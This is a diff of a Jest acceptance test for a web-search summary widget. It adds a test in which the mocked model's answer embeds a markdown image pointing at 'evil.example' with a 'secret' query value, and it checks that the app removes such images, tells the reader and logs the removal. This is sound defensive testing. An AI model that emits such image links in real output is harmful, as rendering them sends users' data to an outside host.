@@ -1,11 +1,15 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
-import type { SummaryView } from '../../src/modules/widgets/types/websearch/websearch.contract.js';
+import type {
+  SearchView,
+  SummaryView,
+} from '../../src/modules/widgets/types/websearch/websearch.contract.js';
 import { until } from '../acceptance/until.js';
 import { signUp, type Person } from '../factories/users.js';
 import { addWidget } from '../factories/widgets.js';
 import { OpenAiServer, streamed } from '../providers/openai-server.js';
 import { PagesServer } from '../providers/pages-server.js';
 import { SearxngServer } from '../providers/searxng-server.js';
+import { eventsOf } from '../support/event-rows.js';
 import { startTestApp, type TestApp } from '../support/test-app.js';
 
 const FACT = 'The lighthouse of Oban is 30 metres high and was built of granite in 1850.';
@@ -63,12 +67,11 @@ async function stop(): Promise<void> {
 
 async function summarize(): Promise<SummaryView> {
   const { id } = await addWidget(person, { type: 'websearch' });
-  const { data: added } = await person.api.post<{ id: string }>(`/widgets/${id}/searches`, {
+  const { data: added } = await person.api.post<SearchView>(`/widgets/${id}/searches`, {
     query: `how high is the lighthouse of Oban ${Math.random()}`,
   });
-  const { data: asked } = await person.api.post<SummaryView>(`/searches/${added.id}/summaries`);
   return until(
-    async () => (await person.api.get<SummaryView>(`/summaries/${asked.id}`)).data,
+    async () => (await person.api.get<SummaryView>(`/summaries/${added.latestSummary!.id}`)).data,
     ({ status }) => status === 'done' || status === 'failed',
   );
 }
@@ -112,6 +115,28 @@ describe('whatever the model answers, there is a summary after two calls at most
 
     expect(await summarize()).toMatchObject({ status: 'done', model: 'large' });
     expect(model.requests).toHaveLength(2);
+  });
+
+  it('what is removed from it for safety is said: to its reader, in its event and in the log', async () => {
+    const image = '![logo](https://evil.example/p.png?q=secret)';
+    model.says = () =>
+      JSON.stringify({
+        facts: [
+          { text: `${FACT} ${image}`, sources: [1] },
+          { text: image, sources: [1] },
+        ],
+        contradictions: [],
+      });
+
+    const { id, content, notice } = await summarize();
+
+    expect(content).toBe(FACT.replace(/\.$/, ' [1].'));
+    expect(notice).toBe('For safety, 2 images that the model wrote were removed from this summary.');
+    const event = await until(
+      async () => (await eventsOf(app, person.id, 'summary.finished.v1')).at(-1),
+      (last) => last?.payload.summaryId === id,
+    );
+    expect(event!.payload.removed).toEqual({ images: 2, links: 0, tags: 0 });
   });
 
   it('after two answers of no use the sentences of the pages do', async () => {
